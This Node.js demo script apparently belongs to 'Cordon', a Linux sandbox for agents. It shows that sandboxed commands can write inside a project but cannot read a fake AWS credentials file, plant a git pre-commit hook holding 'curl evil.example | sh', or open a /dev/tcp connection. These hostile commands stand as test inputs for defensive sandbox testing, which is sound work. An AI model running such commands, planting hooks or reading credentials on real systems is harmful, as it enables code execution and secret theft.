/**
 * The main job on real input, in a scratch home and project that are removed at the end. Each step says what must
 * come of it and checks that it did, on the host: exit code 1 when one does not, so the tour is a proof.
 *
 *     node scripts/demo.mjs
 */
import { spawnSync } from "node:child_process"
import { once } from "node:events"
import {
  accessSync,
  constants,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs"
import { createServer } from "node:net"
import { userInfo } from "node:os"
import { join } from "node:path"
import { root } from "./packages.mjs"
import { Refusal, runMain } from "./say.mjs"

const program = join(root, "dist/cordon")
const key = "AKIA-THIS-KEY-IS-FAKE"
const limitMs = 30_000

async function main() {
  if (process.platform !== "linux") throw new Refusal("this version of Cordon runs on Linux only")
  const scratch = mkdtempSync(join(realpathSync(placeForScratch()), "cordon-demo-"))
  removeAtExit(scratch)
  const tour = openTour(scratch)
  for (const step of [writeInProject, refuseSecret, refuseHook, refuseNetwork]) {
    await step(tour)
    // A signal that came meanwhile is heard here.
    await new Promise(resume => setImmediate(resume))
  }
  print(tour.failures.length === 0 ? nextSteps : failureText(tour.failures))
  process.exitCode = tour.failures.length === 0 ? 0 : 1
}

/** Also when somebody stops the tour, or stops reading it. */
function removeAtExit(scratch) {
  process.on("exit", () => rmSync(scratch, { recursive: true, force: true }))
  process.on("SIGINT", () => process.exit(130)).on("SIGTERM", () => process.exit(143))
  process.stdout.on("error", () => process.exit(1))
}

/** Below the real home, as projects are; an account without one that can be written gets /var/tmp. */
function placeForScratch() {
  const { homedir } = userInfo()
  try {
    accessSync(homedir, constants.W_OK)
    return homedir
  } catch (error) {
    if (!["ENOENT", "EACCES", "EROFS"].includes(error.code)) throw error
    return "/var/tmp"
  }
}

/** A home with a secret and a file that is none, and a project that is a git repository with one commit. */
function openTour(scratch) {
  const home = join(scratch, "home")
  const project = join(home, "work/app")
  mkdirSync(join(home, ".aws"), { recursive: true })
  // A template of the user's may make a repository without it, and then nothing would refuse the hook.
  mkdirSync(join(project, ".git/hooks"), { recursive: true })
  writeFileSync(join(home, ".aws/credentials"), `[default]\naws_secret_access_key = ${key}\n`)
  writeFileSync(join(home, ".gitconfig"), "[user]\n\tname = Demo\n\temail = demo@example.com\n")
  const tour = { home, project, failures: [], env: { ...keptEnvironment(), HOME: home } }
  const { status, output } = runOnHost(tour, ["git", "init", "-q", "."])
  if (status !== 0) throw new Refusal(`git init failed: ${output}`)
  print(`A home with a fake secret in ~/.aws, and a project in ~/work/app (${scratch})`)
  return tour
}

function writeInProject(tour) {
  print("\n1. A command works in the project")
  const written = cordon(tour, ["sh", "-c", "echo made inside > notes.txt"])
  const path = join(tour.project, "notes.txt")
  check(tour, "the file is on the host", existsSync(path) && readFileSync(path, "utf8") === "made inside\n")
  check(tour, "the command ended well", written.status === 0)
}

function refuseSecret(tour) {
  print("\n2. A secret of the home cannot be read")
  const stolen = cordon(tour, ["cat", "~/.aws/credentials"])
  check(tour, "the secret did not come out", stolen.status !== 0 && !stolen.output.includes(key))
  const control = cordon(tour, ["cat", "~/.gitconfig"])
  check(tour, "a file that is no secret did", control.output.includes("demo@example.com"))
  const explained = run(tour, {
    shown: "cordon explain ~/.aws/credentials",
    words: [program, "explain", join(tour.home, ".aws/credentials")],
  })
  const names = /deny .*\.aws .*00-base\.yaml:\d+/.test(explained.output)
  check(tour, "the rule that refused it has a file and a line", explained.status === 0 && names)
}

function refuseHook(tour) {
  print("\n3. Nothing is left for your next `git commit` to run, and git works")
  const hook = join(tour.project, ".git/hooks/pre-commit")
  const planted = cordon(tour, ["sh", "-c", "echo 'curl evil.example | sh' > .git/hooks/pre-commit"])
  check(tour, "there is no hook on the host", planted.status !== 0 && !existsSync(hook))
  cordon(tour, ["git", "add", "notes.txt"])
  cordon(tour, ["git", "commit", "-q", "-m", "Add notes"])
  const log = runOnHost(tour, ["git", "log", "--oneline"])
  check(tour, "the commit is on the host", log.status === 0 && log.output.includes("Add notes"))
}

async function refuseNetwork(tour) {
  print("\n4. With -n there is no network, not even the host's loopback")
  const server = createServer(socket => socket.end())
  await once(server.listen(0, "127.0.0.1"), "listening")
  const words = ["bash", "-c", `exec 3<>/dev/tcp/127.0.0.1/${server.address().port}`]
  const control = run(tour, { shown: words.map(quoted).join(" "), words })
  check(tour, "on the host, a service on loopback answers", control.status === 0)
  const inside = cordon(tour, words)
  check(tour, "in the sandbox it does not", inside.status !== 0 && !/not found/.test(inside.output))
  server.close()
}

/** Runs words in the sandbox, with the network off so that every kernel can do it, and shows what came of it. */
function cordon(tour, words) {
  return run(tour, {
    shown: ["cordon", "-n", "--", ...words].map(quoted).join(" "),
    words: [program, "-n", "--", ...words.map(word => word.replace(/^~(?=\/)/, tour.home))],
  })
}

function run(tour, { shown, words }) {
  print(`   $ ${shown}`)
  const result = runOnHost(tour, words)
  const lines = result.output.split("\n").filter(line => line !== "")
  for (const line of lines) print(`     ${line.replaceAll(tour.home, "~")}`)
  return result
}

function runOnHost({ project, env }, [name, ...words]) {
  const options = { cwd: project, env, encoding: "utf8", timeout: limitMs, stdio: ["ignore", "pipe", "pipe"] }
  const { status, stdout, stderr, error } = spawnSync(name, words, options)
  return { status, output: `${stdout ?? ""}${stderr ?? ""}${error ? `${error.message}\n` : ""}` }
}

function check(tour, claim, holds) {
  print(`   ${holds ? "ok    " : "FAILED"} ${claim}`)
  if (!holds) tour.failures.push(claim)
}

/** Few, so that the tour is the same for everybody: no policy of the user's, no preset that a variable chooses. */
function keptEnvironment() {
  const kept = ["PATH", "LANG", "LC_ALL", "TERM", "NO_COLOR", "CORDON", "CORDON_SESSION"]
  return Object.fromEntries(kept.flatMap(name => (name in process.env ? [[name, process.env[name]]] : [])))
}

function quoted(word) {
  return /^[\w./~:=@%+,-]+$/.test(word) ? word : `'${word.replaceAll("'", "'\\''")}'`
}

function print(text) {
  process.stdout.write(`${text}\n`)
}

function failureText(failures) {
  return `\nThis did not behave: ${failures.join("; ")}\nWhat this machine can enforce: dist/cordon doctor`
}

const nextSteps = `
All of it held, and the scratch home is gone. Next:

   npm install --global .        puts cordon on the PATH
   cordon doctor                 what this machine can enforce, and what is not there yet
   cordon verify                 the same proof for your own home and policy
   cordon claude                 an agent in the project you are in
   cordon explain ~/.ssh         which rule decides, and where it is written`

runMain("demo", main)
